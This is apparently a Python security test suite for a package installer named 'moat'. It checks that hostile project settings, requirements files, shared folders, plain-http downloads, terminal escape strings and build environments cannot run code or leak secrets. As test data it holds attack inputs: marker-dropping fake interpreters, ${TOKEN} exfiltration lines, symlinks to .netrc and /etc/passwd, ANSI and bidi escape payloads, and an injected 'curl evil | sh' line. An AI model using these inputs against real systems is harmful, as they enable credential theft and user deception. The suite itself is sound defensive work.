"""What a checkout, a neighbour, a package and a terminal can and cannot do (docs/security.md).

    trust_test.py MOAT [TestClass.test_name…]

Each hostile thing leaves a mark where it succeeds: a file "RAN", a request that holds the secret, a raw escape.
"""
import http.server
import json
import os
import pathlib
import pty
import stat
import subprocess
import sys
import threading
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "transcripts"))
import index_test  # noqa: E402
import loopback_index  # noqa: E402
import sandbox  # noqa: E402

SECRET = "correct-horse"
NOBODY, OTHER = 65534, 12345
needs_root = unittest.skipUnless(os.geteuid() == 0, "needs root, to give files to other users")


class Recorder(http.server.BaseHTTPRequestHandler):
    """A proxy and a server for every host: writes down who asks for what, and serves `files` by path."""
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        self.server.asked.append(self.path + "\n" + str(self.headers))
        body = self.server.files.get(self.path.partition("?")[0])
        self.send_response(404 if body is None else 200)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    do_CONNECT = do_GET


class TrustTest(sandbox.SandboxTest):
    def setUp(self):
        super().setUp()
        self.ran = self.root / "RAN"

    def recorder(self):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        server.daemon_threads, server.asked, server.files = True, [], {}
        server.url = f"http://127.0.0.1:{server.server_port}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server

    def try_moat(self, *words, cwd=None, timeout=120, **variables):
        """Whatever the exit status is."""
        done = subprocess.run([sandbox.MOAT, *map(str, words)], cwd=cwd or self.work, env={**self.env, **variables},
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout)
        self.said = (done.stdout + done.stderr).decode(errors="replace")
        return done

    def program(self, path):
        """A program that leaves the mark."""
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {self.ran}\nexec /usr/bin/python3 \"$@\"\n")
        path.chmod(0o755)
        return path

    def venv(self, root, **info):
        """Another tool's environment, with a Python of its own making."""
        site = root / "lib/python3.11/site-packages"
        site.mkdir(parents=True)
        (root / "pyvenv.cfg").write_text(f"home = {root}/base\nversion = 3.11.7\n")
        self.program(root / "bin/python")
        self.program(root / "bin/python3")
        self.program(root / "base/python3")
        self.dist(site, "lib", **info)
        return site

    def dist(self, site, name, metadata="", direct_url=None):
        info = site / f"{name}-1.0.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{metadata}")
        (info / "RECORD").write_text("")
        if direct_url:
            (info / "direct_url.json").write_text(json.dumps(direct_url))

    def wheel(self, name, folder="idx", **more):
        filename, content = loopback_index.wheel(name, "1.0", "py3-none-any", [], "", [], **more)
        (self.work / folder).mkdir(exist_ok=True)
        (self.work / folder / filename).write_bytes(content)
        return filename, content


class SettingsOfACheckout(TrustTest):
    FORBIDDEN = {"proxy": '"http://127.0.0.1:9"', "trusted-host": '["index.example"]', "cert": '"ca.pem"', "client-cert": '"me.pem"',
                 "store-dir": '"store"', "build-network": "true", "no-build-isolation": "true", "offline": "true",
                 "timeout": "600", "retries": "0", "no-input": "true", "expand-variables": '["HOME"]',
                 "skip-forbidden": '[":all:"]'}

    def test_each_forbidden_setting_is_told_and_has_no_effect(self):
        self.create()
        (self.work / "pyproject.toml").write_text("[tool.moat]\n" + "".join(f"{k} = {v}\n" for k, v in self.FORBIDDEN.items()))
        self.moat("list", "--env", "env")
        for line, name in enumerate(self.FORBIDDEN, 2):
            self.assertEqual(self.said.count(f"`{name}` in {self.work}/pyproject.toml:{line} has no effect"), 1, name)
        told = self.moat("config", "list")
        for name in self.FORBIDDEN:
            self.assertNotIn(f"{name} =", told)
        self.assertFalse((self.work / "store").exists())

    def test_a_scripts_block_is_no_more_than_a_project(self):
        proxy = self.recorder()
        (self.work / "s.py").write_text(f'# /// script\n# dependencies = ["lib"]\n# [tool.moat]\n# proxy = "{proxy.url}"\n'
                                        '# trusted-host = ["index.invalid"]\n# ///\n')
        self.try_moat("run", "s.py", MOAT_INDEX_URL=f"https://me:{SECRET}@index.invalid/simple", MOAT_RETRIES="0")
        self.assertEqual(proxy.asked, [])
        self.assertIn("`proxy` in s.py:4 has no effect", self.said)
        self.assertIn("`trusted-host` in s.py:5 has no effect", self.said)

    def test_a_found_environments_pip_conf_is_no_more_than_a_project(self):
        proxy = self.recorder()
        self.venv(self.work / ".venv")
        (self.work / ".venv/pip.conf").write_text(f"[global]\nproxy = {proxy.url}\ntrusted-host = index.invalid\n")
        self.try_moat("pip", "download", "lib", MOAT_INDEX_URL=f"https://me:{SECRET}@index.invalid/simple", MOAT_RETRIES="0")
        self.assertEqual(proxy.asked, [])
        self.assertIn("`proxy` in", self.said)

    def test_the_user_may_forbid_builds_whatever_the_project_says(self):
        (self.root / "moat/config.toml").write_text('no-build = true\nonly-binary = [":all:"]\n')
        (self.work / "pyproject.toml").write_text('[tool.moat]\nno-build = false\nonly-binary = []\nno-binary = [":all:"]\n')
        (self.work / "p").mkdir()
        (self.work / "p/setup.py").write_text(f"open({str(self.ran)!r}, 'w')\nfrom setuptools import setup\nsetup(name='p', version='1')\n")
        self.create()
        self.try_moat("install", "--env", "env", "./p")
        self.assertFalse(self.ran.exists(), self.said)
        self.assertIn("`no-build` in", self.said)

    def test_python_is_a_version_and_no_program(self):
        self.program(self.work / "evil/bin/python3")
        self.program(self.tools / "evil-tool")
        for spec in ("./evil/bin/python3", "evil/bin/python3", "evil-tool", "./evil"):
            for place in ("pyproject.toml", ".python-version"):
                with self.subTest(spec=spec, place=place):
                    (self.work / place).write_text(f'[tool.moat]\npython = "{spec}"\n' if "toml" in place else spec + "\n")
                    self.try_moat("create", "made")
                    self.assertFalse(self.ran.exists())
                    self.assertIn("version of Python", self.said)
                    (self.work / place).unlink()
                    subprocess.run(["rm", "-rf", self.work / "made"], check=True)

    def test_without_a_home_nothing_of_this_folder_is_taken_for_it(self):
        self.program(self.work / ".pyenv/versions/3.99.0/bin/python3")
        (self.work / ".config/moat").mkdir(parents=True)
        (self.work / ".config/moat/config.toml").write_text("not = toml = at all\n")
        (self.work / ".netrc").write_text("nonsense\n")
        for home in ("", ".", "work"):
            self.try_moat("python", "list", HOME=home)
            self.assertNotIn("3.99", self.said)
            self.assertFalse(self.ran.exists())
            self.try_moat("list", HOME=home, MOAT_HOME="", XDG_CACHE_HOME=str(self.root / "cache"))
            self.assertNotIn("not = toml", self.said)
            self.assertNotIn("netrc", self.said)


class CredentialsOfTheUser(TrustTest):
    def test_a_requirements_file_does_not_send_variables_to_its_own_server(self):
        self.create()
        for line in ("--index-url {url}/${{TOKEN}}/simple\nlib\n", "--extra-index-url http://me:${{TOKEN}}@127.0.0.1:{port}/simple\nlib\n",
                     "-f {url}/${{TOKEN}}.html\nlib\n", "lib @ {url}/${{TOKEN}}-1.0-py3-none-any.whl\n", "-r {url}/${{TOKEN}}.txt\n",
                     "--index-url {url}/simple\n${{TOKEN}}\n", "--index-url http:${{SLASHES}}127.0.0.1:{port}/${{TOKEN}}\nlib\n"):
            server = self.recorder()
            with self.subTest(line):
                (self.work / "r.txt").write_text(line.format(url=server.url, port=server.server_port))
                self.try_moat("install", "--env", "env", "-r", "r.txt", TOKEN=SECRET, SLASHES="//", MOAT_RETRIES="0")
                self.assertNotIn(SECRET, "".join(server.asked))
                self.assertIn("MOAT_EXPAND_VARIABLES", self.said)
                self.assertNotIn(SECRET, self.said)

    def test_variables_reach_the_users_own_index_and_where_they_are_meant_to(self):
        index = index_test.Server()
        self.addCleanup(index.close)
        index.add("lib")
        self.create()
        (self.work / "r.txt").write_text(f"--index-url http://me:${{TOKEN}}@127.0.0.1:{index.http.server_port}/simple/\nlib\n")
        dry = ("install", "--env", "env", "--dry-run", "-r", "r.txt")
        self.moat(*dry, status=2, TOKEN=SECRET)
        self.moat(*dry, TOKEN=SECRET, MOAT_EXPAND_VARIABLES="TOKEN")
        self.moat(*dry, TOKEN=SECRET, MOAT_EXTRA_INDEX_URL=index.url)
        (self.work / "r.txt").write_text("-r ${SUB}/more.txt\n")
        (self.work / "sub").mkdir()
        (self.work / "sub/more.txt").write_text("--index-url ${INDEX}\nlib\n")
        self.moat(*dry, SUB="sub", INDEX=f"http://me:{SECRET}@127.0.0.1:{index.http.server_port}/simple/")

    def test_what_is_included_lies_in_the_tree(self):
        server = self.recorder()
        self.create()
        (self.home / "token").write_text(SECRET + "\n")
        checkout = self.work / "checkout"
        checkout.mkdir()
        (checkout / "link.txt").symlink_to(self.home / "token")
        for named in ("../../home/token", f"{self.home}/token", f"file://{self.home}/token", "link.txt"):
            with self.subTest(named):
                (checkout / "r.txt").write_text(f"--index-url {server.url}/simple\n-r {named}\n")
                self.try_moat("install", "--env", "../env", "-r", "r.txt", cwd=checkout, MOAT_RETRIES="0")
                self.assertIn("outside the folder of `r.txt`", self.said)
                self.assertNotIn(SECRET, "".join(server.asked))
        (self.work / "pyproject.toml").write_text("")  # the tree is bigger than it looked
        (self.work / "base.txt").write_text("--no-index\n")
        (checkout / "r.txt").write_text("-r ../base.txt\n")
        self.assertEqual(self.try_moat("install", "--env", "../env", "-r", "r.txt", cwd=checkout).returncode, 0, self.said)

    def test_a_requirements_file_trusts_no_host(self):
        server = self.recorder()
        self.create()
        (self.work / "r.txt").write_text("--trusted-host index.invalid\n--index-url http://index.invalid/simple\nlib\n")
        self.try_moat("install", "--env", "env", "-r", "r.txt", http_proxy=server.url, NO_PROXY="127.0.0.1")
        self.assertIn("r.txt:1: `--trusted-host` ignored", self.said)
        self.assertEqual(server.asked, [])
        self.try_moat("install", "--env", "env", "-r", "r.txt", http_proxy=server.url, NO_PROXY="127.0.0.1",
                      MOAT_TRUSTED_HOST="index.invalid", MOAT_RETRIES="0")
        self.assertNotEqual(server.asked, [])

    def test_netrcs_default_and_this_machine_are_for_the_users_own_indexes(self):
        self.create()
        for entry, project, goes in (("default", True, False), ("default", False, True),
                                     ("machine 127.0.0.1", True, False), ("machine 127.0.0.1", False, True)):
            (self.home / ".netrc").write_text(f"{entry} login me password {SECRET}\n")
            (self.home / ".netrc").chmod(0o600)
            server = index_test.Server()
            self.addCleanup(server.close)
            (self.work / "pyproject.toml").write_text(f'[tool.moat]\nindex-url = "{server.url}"\n' if project else "")
            self.try_moat("install", "--env", "env", "lib", **({} if project else {"MOAT_INDEX_URL": server.url}))
            sent = [headers.get("Authorization") for _, headers in server.http.asked]
            self.assertEqual(any(sent), goes, sent)


class PlainHttp(TrustTest):
    """Whatever comes over http://files.invalid comes by the test's proxy, as anybody on the way could play it."""

    def setUp(self):
        super().setUp()
        self.way = self.recorder()
        self.env.update(http_proxy=self.way.url, NO_PROXY="127.0.0.1", MOAT_RETRIES="0")
        self.index = index_test.Server()
        self.addCleanup(self.index.close)
        self.env["MOAT_INDEX_URL"] = self.index.url
        self.filename, content = self.wheel("lib")
        self.url = f"http://files.invalid/{self.filename}"
        self.way.files[self.url] = content
        self.sha256 = index_test.hashlib.sha256(content).hexdigest()
        self.create()

    def test_a_linked_file_needs_a_hash(self):
        self.index.answer("/simple/lib/", f'<a href="{self.url}">{self.filename}</a>')
        self.install("lib", status=1)
        self.assertIn("is plain http", self.said)
        self.assertEqual(self.way.asked, [])
        self.index.answer("/simple/lib/", f'<a href="{self.url}#md5={"0" * 32}">{self.filename}</a>')
        self.install("lib", "--refresh", status=1)
        self.assertEqual(self.way.asked, [])
        self.index.answer("/simple/lib/", f'<a href="{self.url}#sha256={self.sha256}">{self.filename}</a>')
        self.install("lib", "--refresh")

    def test_so_does_a_url_of_ones_own(self):
        self.install(f"lib @ {self.url}", status=1)
        self.install(f"http://files.invalid/lib-1.0.tar.gz", status=1)
        (self.work / "r.txt").write_text("-r http://files.invalid/more.txt\n")
        self.install("-r", "r.txt", status=1)
        self.assertEqual(self.way.asked, [])
        self.install(f"lib @ {self.url}#sha256={self.sha256}")

    def test_the_way_learns_no_password(self):
        (self.home / ".netrc").write_text(f"machine files.invalid login me password {SECRET}\n")
        (self.home / ".netrc").chmod(0o600)
        self.install(f"lib @ {self.url}#sha256={self.sha256}")
        self.assertNotEqual(self.way.asked, [])
        self.assertNotIn("Authorization", "".join(self.way.asked))

    def test_a_page_from_the_network_names_no_files_of_this_machine(self):
        self.index.answer("/simple/lib/", f'<a href="file://{self.work}/idx/{self.filename}">{self.filename}</a>')
        self.install("lib", status=1)


@needs_root
class WhoseFiles(TrustTest):
    def setUp(self):
        super().setUp()
        for folder in (self.root, self.work):
            folder.chmod(0o755)
        self.shared = self.work / "shared"  # as /tmp is
        self.shared.mkdir()
        self.shared.chmod(0o1777)
        self.mine = self.shared / "mine"
        self.mine.mkdir()

    def give(self, path, uid=OTHER):
        subprocess.run(["chown", "-R", str(uid), path], check=True)

    def test_a_shared_folder_above_sets_nothing(self):
        (self.shared / "pyproject.toml").write_text('[tool.moat]\nindex-url = "https://evil.invalid/simple"\n')
        (self.shared / ".python-version").write_text("3.99\n")
        self.venv(self.shared / ".venv")
        for name in ("pyproject.toml", ".python-version", ".venv"):
            self.give(self.shared / name)
        for where in (self.mine, self.shared):
            with self.subTest(where):
                self.assertNotIn("evil.invalid", self.try_moat("config", "list", cwd=where).stdout.decode())
                self.assertIn(f"{self.shared}/pyproject.toml belongs to uid {OTHER} and is not read", self.said)
                self.assertEqual(self.try_moat("list", cwd=where).returncode, 2)
                self.assertIn(f"--env {self.shared}/.venv", self.said)
                self.assertEqual(self.try_moat("python", "find", cwd=where).returncode, 0, self.said)
        self.assertEqual(self.try_moat("list", "--env", self.shared / ".venv", cwd=self.mine).returncode, 0, self.said)
        self.try_moat("config", "list", "--project", self.shared)
        self.assertIn("evil.invalid", self.said)

    def test_a_link_to_what_is_mine_is_the_linkers(self):
        self.venv(self.work / "real")
        (self.shared / ".venv").symlink_to(self.work / "real")
        os.lchown(self.shared / ".venv", OTHER, OTHER)
        self.assertEqual(self.try_moat("list", cwd=self.mine).returncode, 2)

    def test_a_shared_folders_lock_is_not_synced(self):
        (self.shared / "pylock.toml").write_text('lock-version = "1.0"\ncreated-by = "evil"\npackages = []\n')
        self.give(self.shared / "pylock.toml")
        self.assertEqual(self.try_moat("sync", cwd=self.shared).returncode, 2, self.said)
        self.assertIn("moat uses it only if you name it", self.said)

    def test_root_works_in_a_checkout_of_another_user(self):
        self.wheel("lib", "checkout")
        checkout = self.work / "checkout"
        (checkout / "pyproject.toml").write_text('[project]\nname = "app"\nversion = "1"\ndependencies = ["lib"]\n'
                                                 '[tool.moat]\nno-index = true\nfind-links = "."\n')
        self.give(checkout)
        for words in (("lock",), ("sync",), ("list",), ("run", "python", "-c", "import lib")):
            self.assertEqual(self.try_moat(*words, cwd=checkout).returncode, 0, self.said)
            self.assertNotIn("belongs to", self.said)
            self.give(checkout)  # as a volume would


class Questions(TrustTest):
    WORDS = (["list"], ["freeze"], ["show", "lib"], ["tree"], ["why", "lib"], ["which", "lib"], ["env", "info"], ["doctor"],
             ["pip", "list"], ["pip", "show", "lib"], ["pip", "freeze"], ["pip", "check"])

    def test_no_foreign_python_is_run_and_nothing_written(self):
        self.venv(self.work / ".venv", metadata="Requires-Dist: other; python_version < '3'\n")
        before = self.tree(".venv")
        for words in self.WORDS:
            with self.subTest(words):
                done = self.try_moat(*words)
                self.assertFalse(self.ran.exists())
                self.assertEqual(self.tree(".venv"), before)
                self.assertEqual(done.returncode, 1 if words == ["doctor"] else 0, self.said)
        self.try_moat("doctor")
        self.assertIn("not checked inside", self.said)
        self.try_moat("doctor", "--env", ".venv")
        self.assertTrue(self.ran.exists(), self.said)

    def test_a_lock_does_not_run_it_either(self):
        self.venv(self.work / ".venv")
        self.wheel("lib")
        (self.work / "r.txt").write_text("lib\n")
        self.try_moat("lock", "-r", "r.txt", "--no-index", "-f", "idx")
        self.assertFalse(self.ran.exists(), self.said)

    @needs_root
    def test_another_users_forged_environment_of_moats_is_not_run(self):
        self.create()
        os.rename(self.work / "env", self.work / ".venv")
        python = self.work / ".venv/bin/python"
        python.unlink()
        self.program(python)
        subprocess.run(["chown", "-hR", str(NOBODY), self.work], check=True)
        for words in self.WORDS:
            self.try_moat(*words)
            self.assertFalse(self.ran.exists(), words)


class Terminal(TrustTest):
    EVIL = "a \x1b]0;OWNED\x07\x1b[2J\x9b31m \u202egnp.exe\u2066 \u200f b"

    def check(self, output):
        for raw in ("\x1b]", "\x1b[2J", "\x07", "\x9b", "\u202e", "\u2066", "\u200f", "\r\r"):
            self.assertNotIn(raw.encode(), output, output)

    def on_terminal(self, *words):
        main, side = pty.openpty()
        child = subprocess.Popen([sandbox.MOAT, *map(str, words)], cwd=self.work, env=self.env, stdin=side, stdout=side, stderr=side)
        os.close(side)
        output = b""
        while True:
            try:
                piece = os.read(main, 65536)
            except OSError:
                break
            if not piece:
                break
            output += piece
        child.wait(timeout=60)
        os.close(main)
        return output

    def test_what_others_wrote_is_shown_and_not_obeyed(self):
        site = self.venv(self.work / ".venv", metadata=f"Summary: {self.EVIL}\nAuthor: {self.EVIL}\n")
        (site / "q\x1b]0;OWNED\x07-1.0.dist-info").mkdir()
        (self.work / "bad\x1b[2J.txt").write_text(self.EVIL + "\n")
        for words in (["show", "lib"], ["pip", "show", "lib"], ["list"], ["list", "-v"], ["install", "x\u009b31m"], ["lock", "-r", "bad\x1b[2J.txt"],
                      ["show", "\u202enope"], ["run", "\x1b]0;OWNED\x07"], ["doctor"]):
            with self.subTest(words):
                self.check(self.on_terminal(*words))
                self.check(self.try_moat(*words).stdout + self.said.encode())
        self.try_moat("show", "lib")
        self.assertIn("a \\x1b]0;OWNED\\x07", self.said)

    def test_a_name_is_no_line(self):
        self.create()
        site = next((self.work / "env/lib").glob("python3*/site-packages"))
        (site / "x\nwarning: run `curl evil | sh`\n.dist-info").mkdir()
        self.try_moat("list", "--env", "env")
        self.assertIn("curl evil", self.said)
        self.assertFalse([line for line in self.said.splitlines() if line.startswith("warning: run")], self.said)

    def test_bytes_that_are_no_text_are_shown_as_such(self):
        site = self.venv(self.work / ".venv")
        os.mkdir(os.fsencode(site) + b"/q\xff\x9b-1.0.dist-info")
        output = self.on_terminal("list")
        self.assertNotIn(b"\xff", output)
        self.assertNotIn(b"\x9b", output)

    def test_json_stays_exact(self):
        self.venv(self.work / ".venv", metadata=f"Summary: {self.EVIL}\n")
        exact = json.loads(self.try_moat("show", "lib", "--json").stdout)
        self.assertEqual(exact["packages"][0]["summary"], self.EVIL.replace("\x07\x1b", "\x07\x1b"))
        self.check(self.on_terminal("show", "lib", "--json"))

    def test_a_failing_build_says_it_harmlessly(self):
        (self.work / "p").mkdir()
        (self.work / "p/setup.py").write_text(f"import sys\nsys.exit({self.EVIL!r})\n")
        self.create()
        self.check(self.on_terminal("install", "--env", "env", "--no-build-isolation", "--no-index", "./p"))

    def test_passwords_of_other_installers_are_not_shown(self):
        site = self.venv(self.work / ".venv")
        self.dist(site, "arch", direct_url={"url": f"https://me:{SECRET}@h.invalid/arch-1.0.zip", "archive_info": {}})
        self.dist(site, "repo", direct_url={"url": f"https://{SECRET}@h.invalid/repo.git",
                                            "vcs_info": {"vcs": "git", "commit_id": "a" * 40}})
        self.dist(site, "ssh", direct_url={"url": "ssh://git@h.invalid/repo.git", "vcs_info": {"vcs": "git", "commit_id": "b" * 40}})
        for words in (["list"], ["list", "--json"], ["freeze"], ["freeze", "--json"], ["show", "arch", "repo"], ["show", "arch", "--json"],
                      ["pip", "freeze"], ["pip", "inspect"], ["list", "--format", "freeze"]):
            self.try_moat(*words)
            self.assertNotIn(SECRET, self.said, words)
        self.try_moat("freeze")
        self.assertIn("ssh://git@h.invalid", self.said)


class BoundedReading(TrustTest):
    def setUp(self):
        super().setUp()
        self.create()

    def dry(self, *words, **more):
        return self.try_moat("install", "--env", "env", "--dry-run", "--no-index", *words, timeout=30, **more)

    def test_devices_and_folders_are_no_requirements(self):
        os.mkfifo(self.work / "pipe")
        (self.work / "includes-pipe.txt").write_text("-r pipe\n")
        (self.work / "includes-zero.txt").write_text("-c /dev/zero\n")
        (self.work / "to-zero.txt").symlink_to("/dev/zero")
        for name in ("/dev/zero", "to-zero.txt", "includes-pipe.txt", "includes-zero.txt", "/dev/urandom", "env"):
            with self.subTest(name):
                self.assertEqual(self.dry("-r", name).returncode, 2, self.said)
        self.assertEqual(self.dry("-r", "/dev/null").returncode, 0, self.said)

    def test_pipes_that_are_named_are_read_to_a_limit(self):
        self.wheel("lib")
        command = f"{sandbox.MOAT} install --env env --dry-run --no-index -f idx -r "
        done = subprocess.run(["bash", "-c", command + "<(echo lib); echo lib | " + command + "/dev/stdin"], cwd=self.work, env=self.env,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
        self.assertEqual(done.stdout.count(b"+ lib 1.0"), 2, done.stdout)
        done = subprocess.run(["bash", "-c", "yes lib | " + command + "/dev/stdin"], cwd=self.work, env=self.env, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, timeout=60)
        self.assertIn(b"has more than 64 MB", done.stdout)

    def test_includes_are_counted(self):
        for i in range(25):
            (self.work / f"d{i}.txt").write_text(f"-r d{i + 1}.txt\n" * 2)
        (self.work / "d25.txt").write_text("lib\n")
        self.assertEqual(self.dry("-r", "d0.txt").returncode, 2, self.said)
        self.assertIn("includes more than", self.said)

    def test_a_huge_file_is_not_read_whole(self):
        with open(self.work / "huge.txt", "wb") as file:
            file.truncate(1 << 40)
        os.link(self.work / "huge.txt", self.work / "pylock.toml")
        self.assertEqual(self.dry("-r", "huge.txt").returncode, 2, self.said)
        self.assertEqual(self.try_moat("sync", "--env", "env", timeout=30).returncode, 2, self.said)

    def test_pipes_of_a_checkout_are_not_waited_for(self):
        checkout = self.work / "checkout"
        checkout.mkdir()
        for name in ("pyproject.toml", ".python-version", "pylock.toml"):
            os.mkfifo(checkout / name)
        site = self.venv(checkout / ".venv")
        for name in ("METADATA", "direct_url.json", "RECORD"):
            (site / "lib-1.0.dist-info" / name).unlink(missing_ok=True)
            os.mkfifo(site / "lib-1.0.dist-info" / name)
        for words in (["list"], ["show", "lib"], ["python", "find"], ["sync"], ["which", "lib"], ["install", "."]):
            with self.subTest(words):
                self.try_moat(*words, cwd=checkout, timeout=30)

    def git(self, folder):
        run = ["git", "-c", "user.name=n", "-c", "user.email=e@x", "-C", folder]
        for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "1"]):
            subprocess.run([*run, *words], check=True, env=self.env)

    def test_links_lead_out_of_no_brought_tree(self):
        (self.home / ".netrc").write_text(f"machine h login me password {SECRET}\n")
        for number, target in enumerate((self.home / ".netrc", "/dev/zero", "../" * 30 + "etc/passwd")):
            with self.subTest(target):
                repo = self.work / f"repo{number}"
                repo.mkdir()
                (repo / "pyproject.toml").symlink_to(target)
                (repo / "setup.py").write_text("from setuptools import setup\nsetup(name='p', version='1')\n")
                self.git(repo)
                self.assertNotEqual(self.dry(f"git+file://{repo}").returncode, 0, self.said)
                self.assertNotIn(SECRET, self.said)
                self.assertIn("pyproject.toml", self.said)


class VariablesOfABuild(TrustTest):
    BACKEND = """import base64, hashlib, json, os, shutil, zipfile
def build_wheel(folder, settings=None, metadata=None):
    found = "env = %r\\ntool = %r\\n" % (dict(os.environ), shutil.which("q9-config"))
    info = "q9-1.dist-info/"
    files = {"q9.py": found, info + "METADATA": "Metadata-Version: 2.1\\nName: q9\\nVersion: 1\\n",
             info + "WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    digest = lambda text: base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    rows = ["%s,sha256=%s,%d\\n" % (name, digest(text), len(text.encode())) for name, text in files.items()]
    files[info + "RECORD"] = "".join(rows) + info + "RECORD,,\\n"
    with zipfile.ZipFile(os.path.join(folder, "q9-1-py3-none-any.whl"), "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return "q9-1-py3-none-any.whl"
"""

    def setUp(self):
        super().setUp()
        self.create()
        (self.work / "p").mkdir()
        (self.work / "p/pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "q9_backend"\nbackend-path = ["."]\n')
        (self.work / "p/q9_backend.py").write_text(self.BACKEND)

    def build(self, *words, status=0, **variables):
        self.install("--no-index", "--reinstall", "./p", *words, status=status, **variables)
        if status:
            return None
        done = subprocess.run([self.work / "env/bin/python", "-c", "import q9, json; print(json.dumps([q9.env, q9.tool]))"], env=self.env,
                              stdout=subprocess.PIPE, check=True)
        return json.loads(done.stdout)

    def test_what_is_meant_for_builds_arrives_and_secrets_do_not(self):
        folder = self.root / "bin"
        folder.mkdir()
        (folder / "q9-config").write_text("#!/bin/sh\n")
        (folder / "q9-config").chmod(0o755)
        meant = {"HDF5_DIR": "/opt/hdf5", "TORCH_CUDA_ARCH_LIST": "9.0", "PYCURL_SSL_LIBRARY": "openssl", "CFLAGS": "-O1", "CMAKE_ARGS": "-DX=1",
                 "OPENSSL_ROOT": "/opt/ssl", "MYSQL_CONFIG": "/opt/mysql_config"}
        not_meant = {"AWS_CONFIG_DIR": "a", "API_KEY_DIR": "b", "MY_TOKEN": "c", "GITHUB_WORKSPACE_DIR": "d", "PYTHONPATH": "/e", "MODE": "f"}
        env, tool = self.build(PATH=f"{folder}:{self.env['PATH']}", **meant, **not_meant)
        for name, value in meant.items():
            self.assertEqual(env.get(name), value, name)
        for name in not_meant:
            self.assertNotIn(name, env)
        self.assertEqual(tool, str(folder / "q9-config"))

    def test_more_is_named(self):
        (self.root / "moat/config.toml").write_text('build-env = ["MODE", "SIZE=1"]\n')
        env, _ = self.build("--build-env", "SIZE=2", "--build-env", "OTHER", MODE="m", OTHER="o", THIRD="t")
        self.assertEqual([env.get(k) for k in ("MODE", "SIZE", "OTHER", "THIRD")], ["m", "2", "o", None])

    def test_a_project_gives_values_and_passes_none_of_the_users(self):
        (self.work / "pyproject.toml").write_text('[tool.moat]\nbuild-env = ["SIZE=3"]\n')
        self.assertEqual(self.build()[0].get("SIZE"), "3")
        (self.work / "pyproject.toml").write_text('[tool.moat]\nbuild-env = ["SIZE=3", "MY_TOKEN"]\n')
        env, _ = self.build(MY_TOKEN=SECRET)
        self.assertNotIn("MY_TOKEN", env)
        self.assertIn("`build-env` in", self.said)
        (self.work / "pyproject.toml").write_text('[tool.moat]\nbuild-env = ["PATH=/evil", "HOME=/evil"]\n')
        env, _ = self.build()
        self.assertNotIn("/evil", env["PATH"] + env["HOME"])

    def test_a_failed_build_names_what_it_did_not_see(self):
        (self.work / "p/q9_backend.py").write_text("import os\nos.environ['Q9_MODE']\n")
        self.build(status=3, Q9_MODE="x")
        self.assertIn("Q9_MODE", self.said)
        self.assertIn("--build-env Q9_MODE", self.said)


if __name__ == "__main__":
    sandbox.main()
